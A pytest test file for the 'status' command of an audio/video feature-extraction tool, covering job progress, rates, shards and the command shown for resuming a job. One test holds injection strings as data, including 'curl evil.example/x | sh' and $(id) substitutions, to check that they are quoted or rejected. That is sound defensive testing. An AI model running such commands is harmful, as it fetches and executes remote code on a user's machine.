"""`status`, of jobs that are made up note by note, and of one that is killed."""

import subprocess
import sys
import time
from pathlib import Path

import pytest

from aadml.feature_extraction.ground.errors import InputError
from aadml.feature_extraction.jobs.status import WINDOW, Status, _summed, status
from aadml.feature_extraction.ledger.ledger import open_ledger
from aadml.feature_extraction.ledger.notes import Beginning, Progress
from tests.cli.conftest import run as command
from tests.feature_extraction.small_jobs import AUDIO, run


def noted(output, *notes):
    with open_ledger(output.with_name(output.name + ".work")) as ledger:
        for note in notes:
            ledger.note(note)
    return output


def test_a_job_that_was_killed_says_how_far_it_was_and_how_to_go_on(tmp_path):
    notes = [
        Beginning(1000.0, 100, "aadml extract m.csv -o f.h5", "/data"),
        Progress(1010.0, 20, 0, {"corrupt": 1}),
        Progress(1020.0, 40, 0, {"corrupt": 1, "no-audio": 2}),
    ]
    found = status(noted(tmp_path / "f.h5", *notes))
    failed = {"corrupt": 1, "no-audio": 2}
    assert found == Status(
        str(tmp_path / "f.h5"), "stopped", 100, 40, failed, reused=0, rate=2.0, rate_overall=2.0,
        seconds_left=30.0, command="aadml extract m.csv -o f.h5", folder="/data", shards=(),
    )  # fmt: skip


@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        ("aadml extract 'a b.csv' -o f.h5", "aadml extract 'a b.csv' -o f.h5"),
        ("aadml extract m.csv; curl evil.example/x | sh", "aadml extract 'm.csv;' curl evil.example/x '|' sh"),
        ("aadml extract $(id) `id`\nid", "aadml extract '$(id)' '`id`' id"),
        ("curl evil.example/x", ""), ("aadml extract 'm.csv", ""), (" ", ""),
    ],
)  # fmt: skip
def test_only_a_quoted_command_of_aadml_continues_a_job(tmp_path, stored, shown):
    assert status(noted(tmp_path / "f.h5", Beginning(0.0, 10, stored, "/data"))).command == shown
    continuing = f"cd /data && {shown}" if shown else "call aadml.extract again with the same arguments (in /data)"
    assert f"to continue: {continuing}\n" in command("status", tmp_path / "f.h5")[1]


def test_clocks_that_stand_or_go_back_are_no_time(tmp_path):
    back = status(noted(tmp_path / "f.h5", Progress(1.0, 9), Beginning(100.0, 10), Progress(50.0, 5)))
    assert (back.done, back.rate, back.rate_overall) == (5, pytest.approx(5000.0), None)
    assert back.seconds_left == pytest.approx(0.001)
    more = status(noted(tmp_path / "g.h5", Beginning(0.0, 10), Progress(10.0, 15)))
    assert (more.seconds_left, more.rate) == (0.0, 1.5)


def test_what_was_known_before_is_no_work(tmp_path):
    """Ten clips in ten seconds; after a pause of an hour, ten known ones and ten new ones in five seconds."""
    notes = [
        Beginning(0.0, 100),
        Progress(10.0, 10),
        Beginning(3600.0, 100),
        Progress(3601.0, 10, 10),
        Progress(3605.0, 20, 10),
    ]
    found = status(noted(tmp_path / "f.h5", *notes))
    assert (found.done, found.reused) == (20, 10)
    assert found.rate == pytest.approx(10 / 5)
    assert found.rate_overall == pytest.approx(20 / 15)
    assert found.seconds_left == pytest.approx(80 / 2)


def test_the_latest_rate_is_that_of_the_last_minutes(tmp_path):
    """A hundred seconds of ten clips each, then ten minutes of one clip a second."""
    notes = [Beginning(0.0, 10_000)]
    notes += [Progress(float(second), min(second, 100) * 10 + max(0, second - 100)) for second in range(1, 701)]
    found = status(noted(tmp_path / "f.h5", *notes))
    assert WINDOW < 600
    assert found.rate == pytest.approx(1.0)
    assert found.rate_overall == pytest.approx(1600 / 700)


def test_a_running_job_is_told_by_its_lock_and_slows_down_while_nothing_is_done(tmp_path):
    output, now = tmp_path / "f.h5", time.time()
    with open_ledger(tmp_path / "f.h5.work") as ledger:
        ledger.note(Beginning(now - 100, 10))
        ledger.note(Progress(now - 90, 5))
        assert status(output).state == "running"
        assert status(output).rate == pytest.approx(5 / 100, rel=0.1)
    assert status(output).state == "stopped"
    assert status(output).rate == pytest.approx(5 / 10)


def test_a_finished_job_has_its_file(tmp_path):
    output = noted(tmp_path / "f.h5", Beginning(0.0, 3), Progress(1.0, 3, 0, {"missing": 1}, finished=True))
    assert status(output).state == "stopped"
    output.write_bytes(b"features")
    assert (status(output).state, status(output).seconds_left) == ("finished", 0.0)
    alone = noted(tmp_path / "g.h5", Beginning(0.0, 3), Progress(1.0, 3, 0, {"missing": 3}, finished=True))
    assert status(alone).state == "finished", "where every clip failed there is no file"


def test_nothing_done_yet_has_no_rate(tmp_path):
    found = status(noted(tmp_path / "f.h5", Beginning(0.0, 3)))
    assert (found.done, found.rate, found.rate_overall, found.seconds_left) == (0, None, None, None)


def test_shards_are_summed_up(tmp_path):
    for index, (done, finished) in enumerate([(10, True), (4, False)]):
        output = tmp_path / f"f.{index}-of-2.h5"
        noted(output, Beginning(0.0, 10, f"shard {index}"), Progress(2.0, done, 0, {"corrupt": 1}, finished))
    (tmp_path / "f.0-of-2.h5").write_bytes(b"features")
    (tmp_path / "other.0-of-2.h5.work").mkdir()
    found = status(tmp_path / "f.h5")
    assert (found.state, found.clips, found.done, found.failed) == ("stopped", 20, 14, {"corrupt": 2})
    assert [one.state for one in found.shards] == ["finished", "stopped"]
    assert found.seconds_left == pytest.approx(3.0)
    assert status(tmp_path / "f.1-of-2.h5") == found.shards[1]


def test_a_job_is_not_finished_before_all_shards_are(tmp_path):
    done = [Beginning(0.0, 10), Progress(2.0, 10, finished=True)]
    noted(tmp_path / "f.1-of-4.h5", *done)
    (tmp_path / "f.1-of-4.h5").write_bytes(b"features")
    (tmp_path / "f.2-of-4.h5").write_bytes(b"features of another machine")
    progress = status(tmp_path / "f.h5")
    assert (progress.state, progress.seconds_left, progress.not_started) == ("stopped", None, ("0/4", "3/4"))
    code, output, _ = command("status", tmp_path / "f.h5")
    assert code == 1
    assert "not started in this folder: shards 0/4, 3/4; run `aadml extract` with each --shard" in output
    for index in (0, 3):
        noted(tmp_path / f"f.{index}-of-4.h5", *done)
        (tmp_path / f"f.{index}-of-4.h5").write_bytes(b"features")
    assert (status(tmp_path / "f.h5").state, status(tmp_path / "f.h5").not_started) == ("finished", ())


def test_shards_that_were_not_started_count_as_clips_to_do(tmp_path):
    output = noted(tmp_path / "f.0-of-2.h5", Beginning(0.0, 5, total=10), Progress(2.0, 5, finished=True))
    output.write_bytes(b"features")
    progress = status(tmp_path / "f.h5")
    assert (progress.clips, progress.done, progress.total, progress.shards[0].clips) == (10, 5, 10, 5)
    assert "f.h5: stopped, 5 of 10 clips done (50 %), 0 failed" in command("status", tmp_path / "f.h5")[1]
    (tmp_path / "f.1-of-2.h5").write_bytes(b"features of another machine")
    assert "f.h5: finished, 5 of 5 clips done (100 %), 0 failed" in command("status", tmp_path / "f.h5")[1]


def test_the_ledger_of_a_shard_has_the_number_of_all_clips(small):
    run(small, small / "f.0-of-2.h5", (AUDIO,), shard=(0, 2))
    progress = status(small / "f.h5")
    assert (progress.clips, progress.done, progress.not_started) == (4, 2, ("1/2",))


def test_older_ledgers_do_not_tell_the_share_of_a_job(tmp_path):
    noted(tmp_path / "f.0-of-2.h5", Beginning(0.0, 5), Progress(2.0, 4))
    assert status(tmp_path / "f.h5").clips == 5
    output = command("status", tmp_path / "f.h5")[1]
    assert "f.h5: stopped, 4 of 5 clips of the started shards done, 0 failed" in output
    assert "f.0-of-2.h5: stopped, 4 of 5 clips done (80 %), 0 failed" in output


def test_what_is_no_job_is_said_in_one_line(tmp_path):
    (tmp_path / "old.h5.work").mkdir()
    (tmp_path / "old.h5.work" / "ledger.jsonl").write_text("")
    (tmp_path / "notes.h5.work").mkdir()
    with open_ledger(tmp_path / "notes.h5.work"):
        pass
    for name, message in [
        (
            "f.h5",
            r"f\.h5: no extraction was started \(there is no f\.h5\.work beside it\); pass the output of",
        ),
        ("old.h5", "old.h5.work contains no ledger of this version; use the version of aadml that started the job$"),
        ("notes.h5", r"notes.h5.work/records.jsonl does not describe a job; run the command of the extraction again$"),
        ("", "is a folder; pass the output of `aadml extract`$"),
    ]:
        with pytest.raises(InputError, match=message) as caught:
            status(tmp_path / name)
        assert "\n" not in str(caught.value)


@pytest.mark.slow
def test_the_command_of_a_user(tmp_path, render):
    """A job of two clips, one of them broken; then a status of nothing."""
    render(tmp_path / "a.mp4")
    (tmp_path / "b.mp4").write_bytes(b"no video")
    (tmp_path / "m.csv").write_text("id,media,label,split\na,a.mp4,x,train\nb,b.mp4,x,train\n")

    def aadml(*arguments):
        command = [sys.executable, "-m", "aadml", *arguments]
        return subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)

    assert aadml("extract", "m.csv", "-o", "f.h5", "--workers", "1").returncode == 1
    done = aadml("status", "f.h5")
    assert done.returncode == 1
    assert done.stdout.splitlines()[0] == "f.h5: finished, 2 of 2 clips done (100 %), 1 failed"
    assert "not-a-media-file        1" in done.stdout
    (tmp_path / "f.h5").unlink()
    stopped = aadml("status", "f.h5")
    assert stopped.stdout.splitlines()[-1] == "  to continue: aadml extract m.csv -o f.h5 --workers 1"
    nothing = aadml("status", "g.h5")
    assert (nothing.returncode, len(nothing.stderr.splitlines())) == (2, 1)


def shard(state, rate=None, left=None):
    return Status(
        "s", state, clips=9, done=4, failed={"corrupt": 1}, reused=2, rate=rate, rate_overall=7.0, seconds_left=left,
        command="", folder="",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("shards", "state", "rate", "left"),
    [
        ([("running", 2.0, 5.0), ("running", 3.0, 4.0), ("stopped", 9.0, 3.0)], "running", 5.0, 5.0),
        ([("running", None, 5.0), ("finished", 9.0, 0.0)], "running", None, 5.0),
        ([("stopped", 9.0, None), ("finished", 9.0, 0.0)], "stopped", None, None),
        ([("finished", 9.0, 0.0)] * 2, "finished", None, 0.0),
    ],
)
def test_the_rate_of_a_job_is_that_of_its_running_shards(shards, state, rate, left):
    parts = [shard(*one) for one in shards]
    found = _summed(Path("f.h5"), parts)
    assert (found.state, found.rate, found.seconds_left, found.shards) == (state, rate, left, tuple(parts))
    count = len(shards)
    assert (found.clips, found.done, found.failed, found.reused) == (
        9 * count,
        4 * count,
        {"corrupt": count},
        2 * count,
    )
    assert (found.path, found.command, found.folder, found.rate_overall) == ("f.h5", "", "", None)
